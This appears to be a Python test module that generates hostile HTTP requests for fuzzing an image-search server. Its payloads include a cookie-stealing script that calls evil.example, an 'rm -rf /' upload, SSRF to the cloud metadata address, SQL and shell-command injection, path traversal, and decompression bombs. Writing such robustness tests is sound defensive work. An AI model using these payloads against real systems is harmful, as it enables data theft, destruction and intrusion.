"""Requests that no server should mind: what people and programs send to one that anybody can reach.

Each is deterministic. A server may refuse them or not, but it answers none with an error of its own, reads and writes
nothing outside of its place, and keeps its memory.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any
from urllib.parse import quote

from cir.testing.pictures import saved, shades

API = "/api/v1"
_BOUNDARY = "hostile"
_ROUTES = ("/search", "/search/batch", "/uploads", "/marks/of", "/pool")


@dataclass(frozen=True)
class Hostile:
    """A request.

    Attributes:
        name: what is wrong with it.
        method, path, body: of the request.
        headers: besides the host.
    """

    name: str
    method: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)


def hostile_requests(mutations: int = 200) -> list[Hostile]:
    """All of them, in a fixed order; `mutations` of whole pictures are among them."""
    return [*_uploads(mutations), *_forms(), *_json(), *_paths(), *_parameters(), *_headers()]


def form(*parts: tuple[str, bytes, str | None], boundary: str = _BOUNDARY) -> bytes:
    """A multipart body of (name, value, file name or None), written as given."""
    body = b""
    for name, value, file in parts:
        head = f'Content-Disposition: form-data; name="{name}"' + (f'; filename="{file}"' if file is not None else "")
        body += f"--{boundary}\r\n{head}\r\n\r\n".encode("utf-8", "surrogateescape") + value + b"\r\n"
    return body + f"--{boundary}--\r\n".encode()


def _upload(name: str, data: bytes, file: str = "a.jpg") -> Iterator[Hostile]:
    headers = {"content-type": f"multipart/form-data; boundary={_BOUNDARY}"}
    yield Hostile(f"upload: {name}", "POST", f"{API}/uploads", form(("images", data, file)), headers)
    body = form(("references", data, file), ("text", b"red", None))
    yield Hostile(f"search: {name}", "POST", f"{API}/search", body, headers)


def _uploads(mutations: int) -> Iterator[Hostile]:
    for name, data in _pictures().items():
        yield from _upload(name, data)
    for file in _NAMES:
        yield from _upload(f"file name {file[:30]!r}", saved(shades(8, 8)), file)
    whole = [saved(shades(), kind) for kind in ("PNG", "JPEG", "GIF", "WEBP", "TIFF", "BMP")]
    rng = random.Random(7)
    for number in range(mutations):
        changed = bytearray(rng.choice(whole))
        for _ in range(rng.randrange(1, 20)):
            changed[rng.randrange(len(changed))] = rng.randrange(256)
        if number % 3 == 0:
            del changed[rng.randrange(len(changed)) :]
        yield next(_upload(f"mutation {number}", bytes(changed)))


@cache
def _pictures() -> dict[str, bytes]:
    """Files that claim to be pictures."""
    jpeg, png, gif = saved(shades(), "JPEG"), saved(shades(), "PNG"), saved(shades(), "GIF")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../../etc/passwd", b"\0" * 10_000_000)
    script = b"<script>fetch('http://evil.example/'+document.cookie)</script>"
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='file:///etc/passwd'/></svg>"
    bmp = bytearray(saved(shades(), "BMP"))
    bmp[18:26] = struct.pack("<ii", 2**31 - 1, -(2**31))
    return {
        "nothing": b"",
        "one byte": b"\xff",
        "text": b"not a picture",
        "a web page": b"<!doctype html>" + script,
        "svg": svg,
        "svg with an entity bomb": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 1000 + b'">]>' + svg,
        "pdf": b"%PDF-1.7\n" + b"0" * 1000,
        "a zip": archive.getvalue(),
        "an elf": b"\x7fELF" + bytes(1000),
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99999 99999\n(/etc/passwd) (r) file\n",
        "imagemagick": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'\n",
        "png of 30000 x 30000 pixels": _png(30_000, 30_000),
        "png of 2^31 x 1 pixels": _png(2**31 - 1, 1),
        "png of 1 x 2^31 pixels": _png(1, 2**31 - 1),
        "png of 0 x 0 pixels": _png(0, 0),
        "png of 7000 x 7000 pixels, one colour": _png(7000, 7000, whole=True),
        "png with a text bomb": _png(8, 8, extra=_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(50_000_000), 9))),
        "png with a profile bomb": _png(8, 8, extra=_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(50_000_000), 9))),
        "png with a wrong checksum": png[:40] + b"\0\0\0\0" + png[44:],
        "apng of many frames": _png(8, 8, extra=_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "jpeg and script": jpeg + script,
        "gif and script": b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)",
        "jpeg and zip": jpeg + archive.getvalue(),
        "jpeg that ends early": jpeg[: len(jpeg) // 2],
        "jpeg of 65535 x 65535 pixels": _jpeg_of(jpeg, 65535, 65535),
        "jpeg of 0 x 0 pixels": _jpeg_of(jpeg, 0, 0),
        "jpeg with a comment of script": jpeg[:2]
        + b"\xff\xfe"
        + struct.pack(">H", 2 + len(script))
        + script
        + jpeg[2:],
        "gif of 65535 x 65535 pixels": gif[:6] + b"\xff\xff\xff\xff" + gif[10:],
        "bmp of negative size": bytes(bmp),
        "webp that ends early": saved(shades(), "WEBP")[:30],
        "tiff that points to itself": b"II*\0\x08\0\0\0" + b"\x01\0\x00\x01\x03\0\x01\0\0\0\x08\0\0\0" + b"\x08\0\0\0",
        "tiff of many tags": b"II*\0\x08\0\0\0\xff\xff" + b"\x0e\x01\x02\0\xff\xff\xff\x7f\x08\0\0\0" * 2000,
        "icon of many pictures": b"\0\0\1\0\xff\xff" + bytes(16) * 1000,
        "heic that is none": b"\0\0\0\x18ftypheic" + bytes(100),
        "avif that is none": b"\0\0\0\x18ftypavif" + bytes(100),
        "jpeg 2000 that is none": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(100),
        "pnm of much": b"P6\n99999999999 99999999999\n255\n",
        "noise": random.Random(1).randbytes(100_000),
        "zeros": bytes(1_000_000),
    }


_NAMES = (
    "../../../../tmp/evil.jpg",
    "/etc/passwd",
    "..\\..\\evil.jpg",
    "a.jpg\0.png",
    "a" * 5000,
    "<img src=x onerror=alert(1)>.jpg",
    "%2e%2e%2f",
    "con",
    "\u202egpj.exe",
    "a.jpg; filename=b.jpg",
    "",
)


def _forms() -> Iterator[Hostile]:
    kind = f"multipart/form-data; boundary={_BOUNDARY}"
    many = form(*(("negatives", b"x", None) for _ in range(1000)))
    files = form(*(("references", saved(shades(8, 8)), f"{number}.png") for number in range(50)))
    bodies: dict[str, tuple[str, bytes]] = {
        "no boundary": ("multipart/form-data", form(("text", b"red", None))),
        "an empty boundary": ("multipart/form-data; boundary=", form(("text", b"red", None))),
        "a boundary of 10,000": (f"multipart/form-data; boundary={'x' * 10_000}", b"x"),
        "a boundary of odd bytes": ('multipart/form-data; boundary="\\r\\n--"', b"--"),
        "another boundary": ("multipart/form-data; boundary=other", form(("text", b"red", None))),
        "no end": (kind, form(("text", b"red", None))[:-20]),
        "no parts": (kind, f"--{_BOUNDARY}--\r\n".encode()),
        "nothing": (kind, b""),
        "noise": (kind, random.Random(2).randbytes(10_000)),
        "a thousand parts": (kind, many),
        "fifty files": (kind, files),
        "a part without a name": (kind, b"--hostile\r\nContent-Disposition: form-data\r\n\r\nx\r\n--hostile--\r\n"),
        "a part without headers": (kind, b"--hostile\r\n\r\nx\r\n--hostile--\r\n"),
        "a part of much header": (kind, b"--hostile\r\nX: " + b"a" * 100_000 + b"\r\n\r\nx\r\n--hostile--\r\n"),
        "a text of a megabyte": (kind, form(("text", b"a" * 1_000_000, None))),
        "a text that is not UTF-8": (kind, form(("text", b"\xff\xfe\xfd", None))),
        "a number of many digits": (kind, form(("text", b"red", None), ("k", b"9" * 50_000, None))),
        "a number that is none": (kind, form(("text", b"red", None), ("k", b"1e9", None))),
        "an unknown part": (kind, form(("__proto__", b"x", None))),
        "a name of a million": (kind, form(("a" * 1_000_000, b"x", None))),
        "text as a file": (kind, form(("text", b"red", "text.txt"))),
        "utf-7": (f"{kind}; charset=utf-7", form(("text", b"+ADw-script+AD4-", None))),
        "a charset that is none": (f"{kind}; charset=../../x", form(("text", b"red", None))),
        "a nested form": (kind, form(("references", form(("references", b"x", "y")), "z"))),
        "a path for a reference": (kind, form(("references", b"/etc/passwd", None))),
        "a link for a reference": (kind, form(("references", b"http://169.254.169.254/latest/meta-data", None))),
    }
    for name, (media_type, body) in bodies.items():
        for route in ("/search", "/uploads"):
            yield Hostile(f"form: {name} to {route}", "POST", API + route, body, {"content-type": media_type})


def _json() -> Iterator[Hostile]:
    values: dict[str, Any] = {
        "a list": [],
        "a text": "x",
        "null": None,
        "a number": 3,
        "unknown keys": {"__proto__": {"admin": True}, "constructor": 1},
        "a path": {"references": ["/etc/passwd", "../../etc/passwd", "~/.ssh/id_rsa", "file:///etc/passwd"]},
        "a url": {"references": ["http://169.254.169.254/"]},
        "a NUL": {"references": ["a\0b"], "text": "a\0b"},
        "lone surrogates": {"references": ["\udcff"], "text": "\ud800"},
        "a long text": {"text": "a" * 1_500_000},
        "a text of combining marks": {"text": "e" + "\u0301" * 1900},
        "a text of right to left": {"text": "\u202e" * 100},
        "many references": {"references": ["x"] * 100_000},
        "many exclusions": {"text": "x", "exclude": ["x"] * 100_000},
        "many negatives": {"text": "x", "negatives": ["x"] * 10_000},
        "k of much": {"text": "x", "k": 10**300},
        "k of -1": {"text": "x", "k": -1},
        "k of a half": {"text": "x", "k": 0.5},
        "k of true": {"text": "x", "k": True},
        "offset of much": {"text": "x", "offset": 10**18},
        "generation of much": {"text": "x", "generation": 2**63},
        "generation of -1": {"text": "x", "generation": -1},
        "an upload that is none": {"references": [{"upload": "../../../etc/passwd"}]},
        "an upload of zeros": {"references": [{"upload": "0" * 64}]},
        "an upload of an object": {"references": [{"upload": {"$ne": None}}]},
        "sql": {"text": "x", "where": "season='; DROP TABLE images; --"},
        "a condition of code": {"text": "x", "where": {"season": {"__class__": "x"}}},
        "a condition of regex": {"text": "x", "where": "season~(a+)+$"},
        "a condition of much": {"text": "x", "where": {"season": ["x"] * 50_000}},
        "a condition of depth": {"text": "x", "where": [[[[[[["season", "x"]]]]]]]},
        "a column of much": {"text": "x", "where": {"a" * 100_000: "x"}},
        "queries of nothing": {"queries": []},
        "queries of null": {"queries": [None]},
        "queries of much": {"queries": [{"text": "x"}] * 10_000},
        "queries within queries": {"queries": [{"queries": [{"queries": []}]}]},
    }
    texts = {name: json.dumps(value).encode() for name, value in values.items()}
    texts |= {
        "nothing": b"",
        "half of it": b'{"text": "x',
        "NaN": b'{"text": "x", "k": NaN}',
        "depth": b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
        "depth of lists": b"[" * 100_000,
        "a number of many digits": b'{"k": ' + b"9" * 100_000 + b"}",
        "an exponent": b'{"text": "x", "k": 1e999}',
        "not UTF-8": b'{"text": "\xff\xfe"}',
        "UTF-16": '{"text": "x"}'.encode("utf-16"),
        "a mark of order": b"\xef\xbb\xbf{}",
        "twice the same key": b'{"text": "x", "text": ["y"]}',
        "a comment": b'/* */ {"text": "x"}',
    }
    for name, text in texts.items():
        for route in _ROUTES:
            yield Hostile(f"json: {name} to {route}", "POST", API + route, text, {"content-type": "application/json"})
        yield Hostile(f"json: {name} as a mark", "PUT", f"{API}/marks", text, {"content-type": "application/json"})


def _paths() -> Iterator[Hostile]:
    names = (
        *(
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/etc/passwd",
            "..%252f..%252fetc/passwd",
        ),
        *("/etc/passwd", "%2fetc%2fpasswd", "....//....//etc/passwd", "..%5c..%5cwindows", "file:///etc/passwd"),
        *("%00", "a%00.jpg", "%ff%fe", "%c0%ae%c0%ae/etc/passwd", "%", "%zz", "a" * 8000, "%e2%80%ae", "."),
        *("..", "~root", "con", "a%0d%0aset-cookie:x=1", "a%0ab", "*", "$(id)", "`id`", "{{7*7}}", "%3Cscript%3E"),
        *("my.index/CURRENT", "../my.index/CURRENT", "photos.zip/../x", quote("\u0000\ufeff")),
    )
    for name in names:
        for kind in ("images", "thumbnails", "metadata", "uploads"):
            yield Hostile(f"path: {kind} {name[:40]}", "GET", f"{API}/{kind}/{name}")
        yield Hostile(f"path: page {name[:40]}", "GET", f"/page/{name}")
    for path in (
        "//etc/passwd",
        "/api/v1//search",
        "/API/V1/INFO",
        "/api/v1/../../etc/passwd",
        "/.git/config",
        "/.env",
    ):
        yield Hostile(f"path: {path}", "GET", path)


def _parameters() -> Iterator[Hostile]:
    for query in (
        "n=-1",
        "n=99999999999999999999",
        "n=1e3",
        "n=",
        "n=1&n=2",
        "seed=-1",
        "seed=x",
        "seed=1.5",
        "n=%00",
        "x=" + "a" * 9000,
    ):
        yield Hostile(f"parameter: random {query[:30]}", "GET", f"{API}/random?{query}")
    for query in ("values=-1", "values=1001", "values=x", "values[]=1", "values=%f0%9f%98%80"):
        yield Hostile(f"parameter: columns {query}", "GET", f"{API}/columns?{query}")
    for query in (
        "size=0",
        "size=-1",
        "size=99999",
        "size=x",
        "size=320&size=640",
        "v=" + "a" * 100,
        "v=%00",
        "size=320.0",
    ):
        yield Hostile(f"parameter: thumbnail {query[:30]}", "GET", f"{API}/thumbnails/0001.png?{query}")


def _headers() -> Iterator[Hostile]:
    body = b'{"text": "red"}'
    headers: tuple[dict[str, str], ...] = (
        {"content-type": "application/json", "content-encoding": "gzip"},
        {"content-type": "application/json", "origin": "http://evil.example"},
        {"content-type": "application/json", "sec-fetch-site": "cross-site"},
        {"content-type": "text/html"},
        {"content-type": "application/json; charset=utf-16"},
        {"content-type": "application/x-www-form-urlencoded"},
        {"content-type": "a" * 20_000},
        {"content-type": "application/json", "x-forwarded-for": "127.0.0.1, evil", "x-forwarded-host": "evil.example"},
        {"content-type": "application/json", "x-http-method-override": "DELETE"},
        {"content-type": "application/json", "cookie": "cir_session=" + "x" * 5000},
        {"content-type": "application/json", "authorization": "Bearer " + "x" * 5000},
        {"content-type": "application/json", "if-none-match": "*", "range": "bytes=0-,0-,0-,0-"},
        {"content-type": "application/json", "accept-encoding": "gzip;q=1.0, *;q=" + "9" * 1000},
    )
    for number, given in enumerate(headers):
        yield Hostile(f"header {number}", "POST", f"{API}/search", body, given)
    for method in ("HEAD", "OPTIONS", "PATCH", "TRACE", "DELETE", "PROPFIND", "X" * 100):
        for path in (f"{API}/search", f"{API}/images/0001.png", "/"):
            yield Hostile(f"method: {method[:10]} {path}", method, path)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *, extra: bytes = b"", whole: bool = False) -> bytes:
    """A PNG that claims a size, and of which few pixels are there unless it is whole."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = (1 + width) * height if whole else 1 + min(width, 1000)
    data = _chunk(b"IDAT", zlib.compress(bytes(rows), 9))
    return b"\x89PNG\r\n\x1a\n" + head + extra + data + _chunk(b"IEND", b"")


def _jpeg_of(jpeg: bytes, width: int, height: int) -> bytes:
    """A JPEG that claims another size."""
    place = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:place] + struct.pack(">HH", height, width) + jpeg[place + 4 :]
